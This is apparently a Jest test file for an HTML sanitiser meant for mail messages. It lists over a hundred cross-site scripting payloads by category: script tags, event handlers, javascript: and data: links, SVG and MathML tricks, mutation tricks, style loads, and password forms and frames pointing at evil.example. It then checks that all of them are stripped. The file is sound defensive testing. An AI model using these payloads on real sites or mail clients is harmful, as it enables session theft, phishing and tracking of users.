import { JSDOM } from 'jsdom';
import { safeHtml } from './safe-html';

const TAB = '\t';
const NUL = '\0';

/** What has been tried on mail clients and sanitisers, by the way it is meant to work. */
const attacks: Record<string, string[]> = {
  scripts: [
    '<script>steal()</script>',
    '<SCRIPT>steal()</SCRIPT>',
    '<script src="https://evil.example/a.js"></script>',
    '<script/x>steal()</script>',
    '<script\n>steal()</script\n>',
    '<script>steal()',
    '<scr<script>ipt>steal()</scr</script>ipt>',
    '<<script>steal();//<</script>',
    '<script type="module">import "https://evil.example/a.js"</script>',
    '<script><!-- </script --><script>steal()</script>',
    '</p><script>steal()</script>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">steal()</x:script>',
    `<scr${NUL}ipt>steal()</scr${NUL}ipt>`,
    '<script x=">" src="//evil.example/a.js"></script>',
  ],
  'event handlers': [
    '<p onclick="steal()">a</p>',
    '<p ONCLICK=steal()>a</p>',
    '<p/onmouseover=steal()>a</p>',
    `<p${TAB}onfocus${TAB}=${TAB}steal() tabindex=0 autofocus>a</p>`,
    '<div onpointerrawupdate="steal()">a</div>',
    '<b onanimationstart="steal()" style="animation: x 1s">a</b>',
    '<a href="https://example.com" onclick="steal()">a</a>',
    '<a href="https://example.com"onclick="steal()">a</a>',
    '<a href="https://example.com/" "onclick="steal()">a</a>',
    '<img src=x onerror=steal()>',
    '<img src=x:x onerror="&#115;teal()">',
    '<body onload=steal()>',
    '<details open ontoggle=steal()>a</details>',
    '<marquee onstart=steal()>a</marquee>',
    '<video src=x onerror=steal()></video>',
    '<audio autoplay onplay=steal()><source src=x></audio>',
    '<input autofocus onfocus=steal()>',
    '<p contenteditable oninput=steal() onbeforecopy="steal()">a</p>',
    `<p x="'"onclick='steal()'">a</p>`,
    '<p title="</p><img src=x onerror=steal()>">a</p>',
  ],
  'addresses that are code': [
    '<a href="javascript:steal()">a</a>',
    '<a href="JaVaScRiPt:steal()">a</a>',
    '<a href="  javascript:steal()">a</a>',
    `<a href="java${TAB}script:steal()">a</a>`,
    '<a href="java\nscript:steal()">a</a>',
    '<a href="java&#9;script:steal()">a</a>',
    '<a href="java&Tab;script&colon;steal&lpar;&rpar;">a</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;steal()">a</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;steal()">a</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097script:steal()">a</a>',
    '<a href="\u0001javascript:steal()">a</a>',
    '<a href="javascript\u0000:steal()">a</a>',
    '<a href="&#1;javascript:steal()">a</a>',
    '<a href="javascript&#58;steal()">a</a>',
    '<a href="java<!-- -->script:steal()">a</a>',
    '<a href="javascript://example.com/%0Asteal()">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="livescript:steal()">a</a>',
    '<a href="data:text/html,<script>steal()</script>">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+">a</a>',
    '<a href="DATA:image/svg+xml,<svg onload=steal()>">a</a>',
    '<a href="blob:https://example.com/1">a</a>',
    '<a href="filesystem:https://example.com/temporary/a.html">a</a>',
    '<a href="file:///etc/passwd">a</a>',
    '<a href="view-source:javascript:steal()">a</a>',
    '<a href="intent://evil.example#Intent;scheme=https;end">a</a>',
    '<a href="ftp://evil.example/a">a</a>',
    '<a href="//evil.example">a</a>',
    '<a href="\\\\evil.example\\a">a</a>',
    '<a href="/api/auth/sign-out">a</a>',
    '<a href="#x">a</a>',
    '<a href>a</a>',
    '<a xlink:href="javascript:steal()">a</a>',
    '<a href="https://example.com" ping="https://evil.example">a</a>',
    '<a href="https://example.com" href="javascript:steal()">a</a>',
    '<a HREF="javascript:steal()" href="https://example.com">a</a>',
    '<area href="javascript:steal()">',
    '<q cite="javascript:steal()">a</q>',
  ],
  'svg and math': [
    '<svg onload=steal()></svg>',
    '<svg/onload=steal()>',
    '<svg><script>steal()</script></svg>',
    '<svg><a xlink:href="javascript:steal()"><text>a</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=steal()>#x"></use></svg>',
    '<svg><animate onbegin=steal() attributeName=x></animate></svg>',
    '<svg><set attributeName="href" to="javascript:steal()"></set></svg>',
    '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
    '<svg><image href="https://evil.example/a.png"></image></svg>',
    '<svg><style>@import "https://evil.example/a.css"</style></svg>',
    '<math href="javascript:steal()">a</math>',
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:steal()">a</maction></math>',
    '<math><mtext><img src=x onerror=steal()></mtext></math>',
  ],
  'markup that changes when it is parsed again': [
    '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=steal()>"></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;"></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>',
    '<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=steal() src=1>">',
    '<p id="x`-`"><style><img src="</style><img src=x onerror=steal()//">',
    '<textarea><script>steal()</script></textarea>',
    '<textarea></textarea><script>steal()</script>',
    '<title><img src=x onerror=steal()></title>',
    '<xmp><p title="</xmp><script>steal()</script>"></xmp>',
    '<plaintext><script>steal()</script>',
    '<noembed><img src=x onerror=steal()></noembed>',
    '<noframes><img src=x onerror=steal()></noframes>',
    '<template><script>steal()</script></template>',
    '<template shadowrootmode="open"><img src=x onerror=steal()></template>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=steal()>">',
    '<!--><img src=x onerror=steal()>-->',
    '<!--!><img src=x onerror=steal()>--!><img src=x onerror=steal()>',
    '<![CDATA[><img src=x onerror=steal()>]]>',
    '<!DOCTYPE x [<!ENTITY y "<script>steal()</script>">]>&y;',
    '<?xml version="1.0"?><?php steal() ?><? <img src=x onerror=steal()> ?>',
    "<%<!--'%><script>steal()</script -->",
    '&lt;script&gt;steal()&lt;/script&gt;',
    '&amp;lt;img src=x onerror=steal()&amp;gt;',
    '<table><tr><td><svg><desc><table><script>steal()</script></table></desc></svg></td></tr></table>',
    '<p><a href="https://example.com/?a=`><script>steal()</script>">a</a></p>',
    '<div><listing>&lt;img onerror=steal() src&gt;</listing></div>',
    `${'<div>'.repeat(600)}<table><caption><svg><style><a id="</style><img src=x onerror=steal()>">`,
    `<p ${'x '.repeat(300)}onclick=steal()>a</p>`,
    '+ADw-script+AD4-steal()+ADw-/script+AD4-',
    '<meta charset="utf-7">+ADw-img src+AD0-x onerror+AD0-steal()+AD4-',
  ],
  'styles that load, cover or run': [
    '<style>body { background: url(https://evil.example/a.png) }</style>',
    '<style>@import url("https://evil.example/a.css");</style>',
    '<p style="background: url(https://evil.example/a.png)">a</p>',
    '<p style="background-image: image-set(url(//evil.example/a.png) 1x)">a</p>',
    '<p style="b\\61 ckground:u\\72l(//evil.example/a)">a</p>',
    '<p style="list-style: url(javascript:steal())">a</p>',
    '<p style="width: expression(steal())">a</p>',
    '<p style="-moz-binding: url(https://evil.example/a.xml#x)">a</p>',
    '<p style="behavior: url(a.htc)">a</p>',
    '<p style="position: fixed; inset: 0; z-index: 9999">a</p>',
    '<p style="--x: url(https://evil.example/a)">a</p>',
    '<p class="overlay dialog">a</p>',
    '<font face="x" style="src: url(//evil.example/a.woff)">a</font>',
  ],
  'what loads from elsewhere': [
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif" width=1 height=1>',
    '<img src="/api/auth/sign-out">',
    '<img src="data:image/png;base64,AAAA">',
    '<img srcset="https://evil.example/a.png 1x">',
    '<img/src=https://evil.example/a.png>',
    '<image src="https://evil.example/a.png">',
    '<img lowsrc="https://evil.example/a.png" dynsrc="https://evil.example/a.avi">',
    '<picture><source srcset="https://evil.example/a.png"><img></picture>',
    '<video poster="https://evil.example/a.png"></video>',
    '<video><source src="https://evil.example/a.mp4"><track src="https://evil.example/a.vtt"></video>',
    '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    '<table background="https://evil.example/a.png"><tr><td background="https://evil.example/b.png">a</td></tr></table>',
    '<body background="https://evil.example/a.png">a</body>',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<link rel="preload" as="image" href="https://evil.example/a.png">',
    '<link rel="dns-prefetch" href="//evil.example">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<meta http-equiv="Set-Cookie" content="a=b">',
    '<base href="https://evil.example/"><a href="/a">a</a>',
    '<bgsound src="https://evil.example/a.mid">',
    '<input type="image" src="https://evil.example/a.png">',
    '<html manifest="https://evil.example/a.appcache">a</html>',
    '<head profile="https://evil.example">a</head>',
    '<command icon="https://evil.example/a.png">',
    '<blockquote cite="https://evil.example">a</blockquote>',
    '<portal src="https://evil.example"></portal>',
    '<fencedframe></fencedframe>',
  ],
  'forms and frames': [
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<form id="f"></form><button form="f" formaction="javascript:steal()">a</button>',
    '<input type="submit" formaction="https://evil.example">',
    '<isindex action="javascript:steal()" type="submit">',
    '<textarea name="a" form="f">a</textarea>',
    '<select onchange="steal()"><option>a</option></select>',
    '<keygen autofocus onfocus=steal()>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe src="javascript:steal()"></iframe>',
    '<iframe srcdoc="<script>parent.steal()</script>"></iframe>',
    '<IFRAME/SRC="data:text/html,<script>steal()</script>">',
    '<frameset><frame src="https://evil.example"></frameset>',
    '<object data="https://evil.example/a.swf"></object>',
    '<object data="data:text/html,<script>steal()</script>"></object>',
    '<embed src="https://evil.example/a.swf">',
    '<applet code="Evil.class" archive="https://evil.example/a.jar"></applet>',
    '<layer src="https://evil.example"></layer>',
    '<dialog open><form method="dialog"><button autofocus>a</button></form></dialog>',
  ],
  'names that hide those of the page': [
    '<p id="root">a</p>',
    '<a name="body" href="https://example.com">a</a>',
    '<a id="config"></a><a id="config" name="url" href="https://evil.example">a</a>',
    '<p slot="x" is="evil-element" part="y">a</p>',
    '<evil-element>a</evil-element>',
    '<p popover id="x">a</p><button popovertarget="x">b</button>',
    '<p data-action="delete" aria-label="Sign in" role="button" accesskey="s">a</p>',
  ],
};

/** All that may be in a message, said here once more so that a wider list is noticed. */
const TAGS = new Set(
  (
    'h1 h2 h3 h4 h5 h6 p div blockquote pre hr br ul ol li dl dt dd table caption thead tbody tfoot tr th td a span b strong i em u ' +
    's del ins mark small sub sup q cite code kbd samp var abbr img'
  ).split(' '),
);

const { document } = new JSDOM('<!DOCTYPE html>').window;

/** What is wrong with HTML: each element or attribute that should not be there, as a browser sees it. */
function faultsOf(html: string, contextTag: string): string[] {
  const context = document.createElement(contextTag);
  context.innerHTML = html;
  return [...elementsOf(context).querySelectorAll('*')].flatMap((element) => {
    const { localName, namespaceURI, attributes } = element;
    const faults = TAGS.has(localName) && namespaceURI === 'http://www.w3.org/1999/xhtml' ? [] : [localName];
    return [...faults, ...[...attributes].filter((attribute) => !isHarmless(localName, attribute)).map(nameOf)];
  });
}

const elementsOf = (element: HTMLElement): ParentNode =>
  element.localName === 'template' ? (element as HTMLTemplateElement).content : element;

const nameOf = ({ name, value }: Attr) => `${name}=${value}`;

function isHarmless(tag: string, { name, value }: Attr): boolean {
  // Browsers know three values, and pass over all others.
  if (name === 'dir') return true;
  // Where images may be loaded from, the policy of the page says that they stand in.
  if (tag === 'img') {
    return name === 'src'
      ? /^https?:\/\//.test(value)
      : name === 'alt' || (/^(width|height)$/.test(name) && /^\d{1,4}$/.test(value));
  }
  if (tag !== 'a') return false;
  if (name === 'href') return /^(https?:\/\/|mailto:)/.test(value);
  return (name === 'target' && value === '_blank') || (name === 'rel' && value === 'noopener noreferrer');
}

describe.each(Object.entries(attacks))('%s', (_, all) => {
  it.each(all)('leave nothing that runs or loads: %j', (attack) => {
    // Within text, too, and shown where a page may show it.
    for (const html of [attack, `<p>Before ${attack} after</p>`, `<table><tr><td>${attack}`]) {
      const safe = safeHtml(html);
      for (const context of ['div', 'p', 'td', 'template']) expect(faultsOf(safe, context)).toEqual([]);
      expect(safe).not.toMatch(/<!--|<\?|\0/);
      expect(safeHtml(safe)).toBe(safe);
    }
  });
});

it('is looked at by what finds faults', () => {
  const all = Object.values(attacks).flat();
  // The others are text for any parser, or a browser mends them itself.
  expect(all.filter((attack) => faultsOf(attack, 'div').length > 0).length).toBeGreaterThan(150);
});

it('knows more than a hundred attacks', () => {
  expect(Object.values(attacks).flat().length).toBeGreaterThan(100);
});

const link = (href: string, text: string) => `<a href="${href}" target="_blank" rel="noopener noreferrer">${text}</a>`;

it.each([
  ['', ''],
  ['Plain text, 1 < 2 & 3 > 2', 'Plain text, 1 &lt; 2 &amp; 3 &gt; 2'],
  ['<h1>Plan</h1><p>Two <b>bold</b> words, <i>one</i> <u>line</u></p>', undefined],
  ['<p>First<br>Second</p><hr>', '<p>First<br />Second</p><hr />'],
  ['<ul><li>One</li><li>Two<ol><li>Nested</li></ol></li></ul>', undefined],
  ['<blockquote><p>Quoted</p></blockquote><pre><code>if (a &lt; b) {}\n</code></pre>', undefined],
  ['<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>', undefined],
  ['<p dir="rtl">مرحبًا</p>', undefined],
  ['<p>Grüße 👋🏽 &amp; “quotes”</p>', undefined],
  ['<p lang="en" style="color: red" class="x" id="y" title="z">a</p>', '<p>a</p>'],
  ['<a href="https://example.com/a?b=1&amp;c=2#d">a</a>', link('https://example.com/a?b=1&amp;c=2#d', 'a')],
  ['<a href="HTTP://Example.com">a</a>', link('http://example.com/', 'a')],
  ['<a href="mailto:ada@example.com?subject=Hi">a</a>', link('mailto:ada@example.com?subject=Hi', 'a')],
  ['<a href="https://example.com" target="_top" rel="opener">a</a>', link('https://example.com/', 'a')],
  ['<p>A <a href="javascript:steal()">dead link</a> is its text</p>', '<p>A <span>dead link</span> is its text</p>'],
  ['<article><p>Kept</p><center>and this</center></article>', '<p>Kept</p>and this'],
  ['<p><img src="https://example.com/a.png" alt="A hill" width="300" height="200" /></p>', undefined],
  ['<img src="HTTP://Example.com/a.png" onerror="steal()">', '<img src="http://example.com/a.png" alt="" />'],
  [
    '<img src="https://example.com/a.png" srcset="b.png 2x" width="100%">',
    '<img src="https://example.com/a.png" alt="" />',
  ],
  ['<p>a<img src="/api/auth/sign-out" alt="x">b<img src="data:image/png;base64,AAAA">c<img></p>', '<p>abc</p>'],
  ['<p>Not closed <b>at all', '<p>Not closed <b>at all</b></p>'],
])('leaves what marks up text: %j', (html, safe) => {
  expect(safeHtml(html)).toBe(safe ?? html);
});

it.each([
  ['deep elements', '<div>'.repeat(20_000)],
  ['unclosed tags', '<p a="'.repeat(15_000)],
  ['angle brackets', '<'.repeat(100_000)],
  ['attributes', `<p ${'a '.repeat(49_000)}>`],
  ['comments', '<!--'.repeat(25_000)],
  ['links', '<a href="http:a">'.repeat(5_800)],
  ['entities', '&#x41;'.repeat(16_000)],
  ['slashes', '</'.repeat(50_000)],
])('is done with a message of nothing but %s, and leaves it flat', (_, html) => {
  document.body.innerHTML = safeHtml(html);
  let depth = 0;
  for (let element = document.body.firstElementChild; element; element = element.firstElementChild) depth += 1;
  expect(depth).toBeLessThanOrEqual(50);
});
